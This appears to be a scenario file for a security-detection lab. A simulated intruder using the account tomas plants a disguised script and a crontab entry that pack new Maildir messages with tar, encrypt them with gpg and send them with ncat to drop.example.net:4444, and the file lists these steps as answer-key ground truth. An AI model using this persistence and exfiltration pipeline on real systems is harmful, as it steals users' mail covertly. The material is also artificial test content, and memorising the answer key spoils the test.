title="A crontab takes the letters of the last hours, seals them with gpg and hands them to ncat; only commands are audited"
what="With tomas' login somebody leaves ~/.local/share/gvfs-metadata/sync.sh and a line in his crontab: find of the newer letters of ~/Maildir, tar, gpg -c, ncat to drop.example.net:4444. It runs twice while mail comes in. Tomas' own cron job makes a copy of his papers to the own backup host."
host=mx1.example.org user=tomas daemons="cron sshd" audit_rules=audit-exec.rules audit_format=RAW syslog_format=iso
people="ines tomas rui ops"
aliases='postmaster: root\nroot: ops\ninfo: ines, tomas\nabuse: root\n'
setup() {
  outside_rsyncd
  mkdir -p /home/tomas/papeles; for n in 1 2 3; do echo "acta $n" > /home/tomas/papeles/a$n.txt; done; chown -R tomas: /home/tomas/papeles
  crontab_of tomas <<'C'
*/2 * * * * rsync -a papeles/ rsync://backup.example.org/in/c/ >/dev/null 2>&1
C
}
act() {
  local n
  for n in 1 2 3 4 5 6; do mail_in --from "obra$n@example.net" --to tomas@example.org --subject "Presupuesto $n" --source 203.0.113.3$n --helo host3$n.example.net; done
  small_talk 2
  python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.201 -i /root/key tomas@$host_ip <<'L'
mkdir -p .local/share/gvfs-metadata
printf '#!/bin/sh\ncd $HOME || exit\nt=.local/share/gvfs-metadata/stamp\n[ -e $t ] || touch -d 2020-01-01 $t\nfind Maildir/new Maildir/cur -type f -newer $t -print0 | tar --null -T - -czf - | gpg --batch --yes --pinentry-mode loopback --passphrase k0r -c -o - | ncat --send-only drop.example.net 4444\ntouch $t\n' > .local/share/gvfs-metadata/sync.sh
(crontab -l; echo '* * * * * sh $HOME/.local/share/gvfs-metadata/sync.sh >/dev/null 2>&1') | crontab -
L
  wait_log_file /var/log/recorded 'gvfs-metadata/sync.sh' 70; sleep 4
  mail_in --from obra7@example.net --to tomas@example.org --subject 'Presupuesto 7' --source 203.0.113.37 --helo host37.example.net
  small_talk 1; sleep 58
}
truth() {
  exec_step job 'sh /home/tomas/.local/share/gvfs-metadata/sync.sh' 'the job'
  exec_step find 'find Maildir/new Maildir/cur -type f -newer' 'takes newer letters'
  exec_step seal 'gpg --batch' 'seals them'
  exec_step out 'ncat --send-only drop.example.net 4444' 'and sends them out'
}
